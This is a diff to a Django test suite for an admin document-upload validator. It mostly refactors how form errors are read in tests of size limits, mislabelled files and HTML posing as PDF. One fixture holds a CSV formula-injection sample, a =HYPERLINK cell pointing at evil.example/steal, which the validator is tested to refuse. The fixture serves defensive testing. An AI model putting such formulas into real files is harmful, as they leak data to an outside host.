@@ -39,7 +39,7 @@ def test_staff_upload_accepted_documents_with_type_and_size_from_content(
     response = comms_client.post(
         "/admin/documents/document/add/", document_form(file=upload(name, content, "text/html"))
     )
-    assert response.status_code == 302, response.context["adminform"].form.errors
+    assert response.status_code == 302, pages.errors(response)
     document = Document.objects.get()
     assert document.file_type == file_type
     assert document.size == len(content)
@@ -105,7 +105,7 @@ def test_unsafe_or_mislabelled_uploads_are_refused_with_a_clear_message(
         document_form(file=upload(name, content, "application/pdf")),
     )
     assert response.status_code == 200
-    errors = response.context["adminform"].form.errors["file"]
+    errors = pages.errors(response)["file"]
     assert message in " ".join(errors)
     assert not Document.objects.exists()
 
@@ -115,7 +115,9 @@ def test_a_file_over_the_size_limit_is_refused_saying_the_limit(comms_client, se
     response = comms_client.post(
         "/admin/documents/document/add/", document_form(file=upload("big.pdf", files.pdf()))
     )
-    assert "the largest document accepted is 1000\xa0bytes" in str(response.context["errors"])
+    assert "the largest document accepted is 1000\xa0bytes" in " ".join(
+        pages.errors(response)["file"]
+    )
     assert "Up to 1000\xa0bytes" in response.content.decode()  # the limit is in the help text too
     assert not Document.objects.exists()
 
@@ -123,14 +125,13 @@ def test_a_file_over_the_size_limit_is_refused_saying_the_limit(comms_client, se
 def test_a_bad_replacement_file_keeps_the_saved_document_and_what_was_typed(comms_client):
     document = DocumentFactory(title="Annual report 2024")
     stored = document.file.name
-    response = comms_client.post(
-        f"/admin/documents/document/{document.pk}/change/",
-        document_form(title="Annual report 2024, corrected",
-                      file=upload("report.pdf", b"<html>not a pdf</html>")),
-    )  # fmt: skip
+    form = pages.form(comms_client.get(f"/admin/documents/document/{document.pk}/change/"),
+                      field="title")  # fmt: skip
+    response = form.submit(comms_client, title="Annual report 2024, corrected",
+                           file=upload("report.pdf", b"<html>not a pdf</html>"))  # fmt: skip
     assert response.status_code == 200
-    assert "web page code" in str(response.context["errors"])
-    assert response.context["adminform"].form["title"].value() == "Annual report 2024, corrected"
+    assert "web page code" in " ".join(pages.errors(response)["file"])
+    assert pages.form(response, field="title").value("title") == "Annual report 2024, corrected"
     document.refresh_from_db()
     assert (document.title, document.file.name, document.file_type) == (
         "Annual report 2024",
@@ -306,7 +307,7 @@ def test_ordinary_files_that_resemble_hostile_ones_are_accepted(
 ):
     form = pages.form(comms_client.get("/admin/documents/document/add/"), field="file")
     response = form.submit(comms_client, title="Figures", file=upload(name, content))
-    assert response.status_code == 302, response.context["adminform"].form.errors
+    assert response.status_code == 302, pages.errors(response)
     assert Document.objects.get().file_type == file_type
 
 
@@ -314,7 +315,7 @@ def test_a_formula_message_says_where_the_cell_is_and_what_it_starts_with(comms_
     form = pages.form(comms_client.get("/admin/documents/document/add/"), field="file")
     content = b'name,link\nTrial,"=HYPERLINK(""https://evil.example/steal?data="",""Results"")"\n'
     response = form.submit(comms_client, title="Figures", file=upload("figures.csv", content))
-    (error,) = response.context["adminform"].form.errors["file"]
+    (error,) = pages.errors(response)["file"]
     assert error == (
         "The cell in row 2, column B starts with “=”, so spreadsheet programs would run it "
         'as a formula: “=HYPERLINK("https://evil.example/steal?d…”. Change it so that it '
